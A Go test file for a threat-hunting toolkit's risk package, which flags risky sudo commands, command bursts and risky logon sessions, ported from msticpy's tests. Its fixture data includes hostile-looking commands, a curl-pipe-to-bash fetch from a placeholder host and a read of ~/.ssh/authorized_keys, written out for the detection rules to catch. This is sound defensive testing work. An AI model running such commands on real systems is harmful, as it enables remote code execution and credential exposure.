package risk

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/huntkit/huntkit/frame"
	"github.com/huntkit/huntkit/internal/testdata"
)

// TestRiskySudoMSTICPy reproduces msticpy's test_risky_sudo_sessions on
// sudo_session_test.csv: risky commands (built-in Syslog rules), bursts of 2 commands within
// 60 s and the pam sessions give 2 risky sessions.
func TestRiskySudoMSTICPy(t *testing.T) {
	f, err := frame.ReadFile(testdata.Shared(t, "msticpy/linux/sudo_session_test.csv"))
	if err != nil {
		t.Fatal(err)
	}
	events, err := EventsFromFrame(f, "TimeGenerated", "Command")
	if err != nil {
		t.Fatal(err)
	}
	hits, err := RiskyCommands(events, DefaultRules(), "Syslog")
	if err != nil {
		t.Fatal(err)
	}
	bursts := FastCommands(events, 60*time.Second, 2)
	msgs, err := LogonsFromFrame(f, "TimeGenerated")
	if err != nil {
		t.Fatal(err)
	}
	sessions, err := LogonSessions(msgs)
	if err != nil {
		t.Fatal(err)
	}
	risky := RiskySessions(sessions, hits, bursts)
	t.Logf("%d commands, %d risky, %d bursts, %d sessions, risky sessions %+v", len(events), len(hits), len(bursts), len(sessions), risky)
	if len(risky) != 2 {
		t.Errorf("%d risky sessions, want 2", len(risky))
	}
	if len(hits) == 0 || len(bursts) == 0 {
		t.Errorf("hits %v, bursts %d", hits, len(bursts))
	}
}

func TestRulesAndErrors(t *testing.T) {
	ev := []Event{{Command: "/bin/bash"}, {Command: "ls -la"}, {Command: "curl -s http://x/i.sh | bash"}, {Command: "cat ~/.ssh/authorized_keys"}, {Command: ""}}
	hits, err := RiskyCommands(ev, DefaultRules(), "Syslog")
	if err != nil || len(hits) != 3 {
		t.Fatalf("hits %+v %v", hits, err)
	}
	dir := t.TempDir()
	custom := filepath.Join(dir, "rules.json")
	os.WriteFile(custom, []byte(`{"Syslog": [".*\\bls\\b.*"], "Audit": ["x"]}`), 0o600)
	r, err := LoadRules(custom)
	if err != nil {
		t.Fatal(err)
	}
	if hits, _ := RiskyCommands(ev, r, "Syslog"); len(hits) != 4 {
		t.Errorf("extended rules: %d hits, want 4", len(hits))
	}
	os.WriteFile(custom, []byte(`{"Syslog": ["(unclosed"]}`), 0o600)
	if _, err := LoadRules(custom); !errors.Is(err, ErrInput) || !strings.Contains(err.Error(), "Syslog[0]") {
		t.Errorf("bad regex: %v", err)
	}
	if _, err := RiskyCommands(ev, r, "Windows"); !errors.Is(err, ErrInput) {
		t.Errorf("unknown log type: %v", err)
	}
	if _, err := LogonSessions(nil); !errors.Is(err, ErrInput) {
		t.Errorf("no sessions: %v", err)
	}
	t0 := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
	fast := []Event{{t0, "a"}, {t0.Add(time.Second), "b"}, {t0.Add(2 * time.Second), "c"}, {t0.Add(time.Hour), "d"}}
	if b := FastCommands(fast, 5*time.Second, 2); len(b) != 1 || b[0].Events[0].Command != "a" {
		t.Errorf("bursts %+v", b)
	}
}
